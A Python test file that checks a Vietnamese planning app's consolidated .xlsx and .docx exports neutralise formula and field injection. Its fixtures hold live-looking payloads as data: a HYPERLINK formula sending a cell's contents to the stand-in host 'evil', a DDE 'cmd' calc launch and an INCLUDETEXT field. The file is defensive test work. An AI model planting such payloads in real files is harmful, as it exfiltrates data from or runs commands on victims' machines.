"""Formula and field injection in the consolidated report's .xlsx and .docx.

Hostile text goes in through the API into every text field that reaches an export
(report narratives, plan, task, indicator, agency and group names, focal points); the
downloaded files must hold it as plain text: in the workbook a string cell, never a
formula, with OWASP's leading quote before a formula-starting character; in the Word
draft, no field at all.
"""

import re
import zipfile
from dataclasses import dataclass
from io import BytesIO
from typing import Any

import pytest
from docx import Document
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from app.core.office_text import cell_text
from tests.reports.helpers import PLAN, REPORTS, act, at, create_report

# As of a day after the deadline: an agency without a report is late or missing.
PARAMS = {"plan": PLAN, "period": "2026-Q1", "as_of": "2026-04-01T00:00:00+07:00"}
LATE = "Các đơn vị nộp muộn hoặc chưa nộp: "
# A cell a spreadsheet may read as a formula (OWASP: also behind blanks, tab or CR).
FORMULA_START = re.compile(r"\s*[=+\-@\t\r]")
FIELD_MARKUP = (b"fldSimple", b"instrText", b"fldChar")


@dataclass(frozen=True)
class Hostile:
    sent: str  # through the API
    xlsx: str  # the workbook's cell
    docx: str  # the Word draft's text


HYPERLINK = '=HYPERLINK("http://evil/?d="&B2,"x")'
HOSTILE = [
    Hostile(HYPERLINK, "'" + HYPERLINK, HYPERLINK),
    Hostile("+1+1", "'+1+1", "+1+1"),
    Hostile("-2+3", "'-2+3", "-2+3"),
    Hostile("@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"),
    Hostile("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    # The API trims text: " =1" and "\t=1" are stored as "=1".
    Hostile(" =1", "'=1", "=1"),
    Hostile("\t=1", "'=1", "=1"),
    # A character XML cannot hold shields a leading blank from the trim; the export drops
    # it, so the quote must be decided on the text that is left.
    Hostile("\x07\t=1", "'\t=1", "\t=1"),
    Hostile("\x07 =1", "' =1", " =1"),
    Hostile("\x07\r=1", "'\r=1", "\n=1"),
    Hostile("\x07=1+2\x1b", "'=1+2", "=1+2"),
    Hostile('{ INCLUDETEXT "c:\\x" }', '{ INCLUDETEXT "c:\\x" }', '{ INCLUDETEXT "c:\\x" }'),
    # Not a formula but an error value to openpyxl, unless typed as a string.
    Hostile("#REF!", "#REF!", "#REF!"),
]
IDS = [repr(h.sent) for h in HOSTILE]
# Fields with a pattern or a short limit get hostile text of their own.
EMAIL = HYPERLINK + "@evil.vn"
PHONE = "+1+1"


def _ok(response: Any) -> Any:
    assert response.status_code in (200, 201), response.text
    return response.json() if response.content else None


def _plant(
    client: TestClient, headers: dict[str, str], monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    """Every text field an export shows, set to ``text`` through the API."""
    unit = text if len(text) <= 20 else "@SUM(A1)"
    _ok(
        client.patch(
            f"/api/v1/plans/{PLAN}", json={"title": text, "document_number": text}, headers=headers
        )
    )
    for number in (2, 3):
        task = {"title": text, "deadline_text": text}
        _ok(client.patch(f"/api/v1/plans/{PLAN}/tasks/{number}", json=task, headers=headers))
    indicator = {"title": text, "unit": unit}
    _ok(client.patch(f"/api/v1/plans/{PLAN}/indicators/T2026-5", json=indicator, headers=headers))
    group = "/api/v1/agency-groups/so-ban-nganh-dia-phuong"
    _ok(client.patch(group, json={"name": text}, headers=headers))
    focal = {"name": text, "title": text, "email": EMAIL, "phone": PHONE}
    for code, body in (
        ("so-vhttdl", {"name": text}),  # coordinator, lead of task 2, budget line
        ("ubnd-tinh", {"name": text}),  # issuer
        ("bao-ptth-cb", {"name": text}),  # lead of task 3, late
        ("xa-bao-lam", {"name": text, "focal_point": focal}),
    ):
        _ok(client.patch(f"/api/v1/agencies/{code}", json=body, headers=headers))
    line = {"plan_code": PLAN, "task_number": 2, "agency_code": "so-vhttdl", "year": 2026,
            "estimate_vnd": 350_000_000}  # fmt: skip
    _ok(client.post("/api/v1/budget-lines", json=line, headers=headers))
    narrative = {"results": text, "difficulties": text, "proposals": text}
    report = create_report(client, headers, "xa-bao-lam", **narrative)
    act(client, monkeypatch, report["id"], "submit", headers, at("2026-03-18"))


def _download(client: TestClient, headers: dict[str, str], ext: str) -> bytes:
    response = client.get(f"{REPORTS}/consolidated.{ext}", params=PARAMS, headers=headers)
    assert response.status_code == 200, response.text
    return response.content


def _row(book: Workbook, sheet: str, key: Any) -> tuple[Any, ...]:
    return next(r for r in book[sheet].iter_rows(min_row=2, values_only=True) if r[0] == key)


def _no_formula_anywhere(content: bytes, book: Workbook) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not FORMULA_START.match(cell.value), (sheet.title, cell.coordinate)
    with zipfile.ZipFile(BytesIO(content)) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", parts.read(name)), name


@pytest.mark.parametrize("hostile", HOSTILE, ids=IDS)
def test_xlsx_holds_hostile_text_as_quoted_strings(
    client: TestClient,
    admin_headers: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
    hostile: Hostile,
) -> None:
    _plant(client, admin_headers, monkeypatch, hostile.sent)
    content = _download(client, admin_headers, "xlsx")
    book = load_workbook(BytesIO(content))
    _no_formula_anywhere(content, book)
    shown = hostile.xlsx
    overview = {r[0]: r[1] for r in book["Tổng quan"].iter_rows(min_row=2, values_only=True)}
    assert overview["Tên kế hoạch"] == shown
    assert overview["Cơ quan tổng hợp"] == shown
    unit = shown if len(hostile.sent) <= 20 else "'@SUM(A1)"
    assert _row(book, "Chỉ tiêu", "T2026-5")[1] == shown
    assert _row(book, "Chỉ tiêu", "T2026-5")[4] == unit
    assert _row(book, "Nhiệm vụ", 1)[2] == shown  # a group leads task 1
    assert _row(book, "Nhiệm vụ", 2)[1:4] == (shown, shown, shown)
    assert _row(book, "Nhiệm vụ", 3)[1:4] == (shown, f"{shown}; Tạp chí Non nước Cao Bằng", shown)
    compliance = _row(book, "Chế độ báo cáo", "xa-bao-lam")
    assert compliance[1] == shown and compliance[6:8] == (shown, shown)
    assert compliance[8:10] == ("'" + EMAIL, "'" + PHONE)
    assert _row(book, "Chế độ báo cáo", "bao-ptth-cb")[1] == shown
    assert _row(book, "Kinh phí", 2)[1] == shown
    assert _row(book, "Kinh phí theo đơn vị", "so-vhttdl")[1:4] == (shown, 1, 350_000_000)
    narrative = _row(book, "Báo cáo đơn vị", "xa-bao-lam")
    assert narrative[1] == shown and narrative[4:7] == (shown, shown, shown)
    # What the service computes stays typed: a date-time, counts and amounts as numbers.
    assert narrative[3] is not None and narrative[3].hour == 10
    assert isinstance(compliance[5], int)


@pytest.mark.parametrize("hostile", HOSTILE, ids=IDS)
def test_docx_holds_hostile_text_as_plain_text(
    client: TestClient,
    admin_headers: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
    hostile: Hostile,
) -> None:
    _plant(client, admin_headers, monkeypatch, hostile.sent)
    content = _download(client, admin_headers, "docx")
    with zipfile.ZipFile(BytesIO(content)) as parts:
        for name in parts.namelist():
            if not name.endswith((".xml", ".rels")):
                continue  # docProps/thumbnail.jpeg
            data = parts.read(name)
            for markup in FIELD_MARKUP:
                assert markup not in data, (name, markup)
            assert b"\x07" not in data and b"\x1b" not in data, name
    document = Document(BytesIO(content))
    shown = hostile.docx
    rows = {
        row.cells[0].text: [c.text for c in row.cells] for t in document.tables for row in t.rows
    }
    assert rows["T2026-5"][1] == shown
    assert rows["2"][1:4] == [shown, shown, shown]
    assert rows["1"][2] == shown
    paragraphs = "\n".join(p.text for p in document.paragraphs)
    assert f"- {shown}: {shown}" in paragraphs  # a narrative: "- <agency>: <text>"
    late = next(p.text for p in document.paragraphs if p.text.startswith(LATE))
    assert shown in late.removeprefix(LATE).removesuffix(".").split("; ")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("\n\u00a0=1", "'\n\u00a0=1"),
        ("\x07=1", "'=1"),
        ("=", "'="),
        ("a=1", "a=1"),
        ("  texte", "  texte"),
        ("'=1", "'=1"),
        ("", ""),
        ("Sở Văn hóa,\x0b Thể thao\x1b", "Sở Văn hóa, Thể thao"),
        ("\ud800=1\ufffe", "'=1"),  # the API refuses lone surrogates; the export drops them
    ],
)
def test_cell_text(text: str, cell: str) -> None:
    assert cell_text(text) == cell
